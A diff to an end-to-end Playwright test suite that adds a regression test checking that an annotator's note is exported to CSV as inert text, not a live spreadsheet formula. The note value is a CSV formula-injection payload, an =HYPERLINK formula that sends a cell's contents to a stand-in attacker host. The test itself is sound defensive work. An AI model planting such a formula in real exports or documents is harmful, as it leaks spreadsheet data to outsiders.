@@ -5,6 +5,7 @@ import { execFileSync } from 'node:child_process';
 import Database from 'better-sqlite3';
 import { expect, test, type Page } from '@playwright/test';
 import { signIn, USERS } from './fixtures/auth.ts';
+import { calibrationFixture } from './fixtures/calibration-seed.ts';
 import { e2eFixture } from './fixtures/data.ts';
 import { E2E_DATABASE_URL, REPO_ROOT } from './paths.ts';
 
@@ -195,6 +196,28 @@ test('finding 6: every dashboard page satisfies its CSP in Chromium (no violatio
   await page.getByRole('link', { name: /Environments/ }).first().click();
   await expect(page.getByRole('heading', { level: 1, name: 'Environments' })).toBeVisible();
   expect(violations).toEqual([]);
+});
+
+test('finding 7: an annotator\'s =HYPERLINK note is exported as text, not a live formula', async ({ playwright, baseURL }) => {
+  test.setTimeout(120_000);
+  const annotator = newAccount('csv', 'annotator');
+  const set = JSON.parse(
+    envolve('calibration', 'create', '--versions', calibrationFixture().versionId, '--size', '2', '--seed', '3', '--annotators', annotator, '--name', 'CSV formula check', '--json'),
+  ) as { id: string };
+  const api = await playwright.request.newContext({ baseURL, extraHTTPHeaders: { origin: baseURL! } });
+  expect((await api.post('/api/auth/sign-in/email', { data: { email: annotator, password: PASSWORD } })).status()).toBe(200);
+  const queue = (await (await api.post(`/api/calibration/sets/${set.id}/queue`)).json()) as { current: string };
+  const note = '=HYPERLINK("http://evil.example/?"&A1,"details")';
+  const labelled = await api.post(`/api/calibration/sets/${set.id}/items/${queue.current}/label`, { data: { answer: 'pass', note } });
+  expect(labelled.status()).toBe(200);
+  await api.dispose();
+
+  const lead = await playwright.request.newContext({ baseURL, extraHTTPHeaders: { origin: baseURL! } });
+  expect((await lead.post('/api/auth/sign-in/email', { data: { email: USERS.lead.email, password: USERS.lead.password } })).status()).toBe(200);
+  const csv = await (await lead.get(`/api/calibration/sets/${set.id}/export?what=labels&format=csv`)).text();
+  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""details"")"`);
+  expect(csv).not.toMatch(/,"=HYPERLINK/);
+  await lead.dispose();
 });
 
 test('finding 8: malformed paths, a CR/LF in next=, an oversized action body and an unknown user are 4xx, not 500', async ({ page, playwright, baseURL }) => {
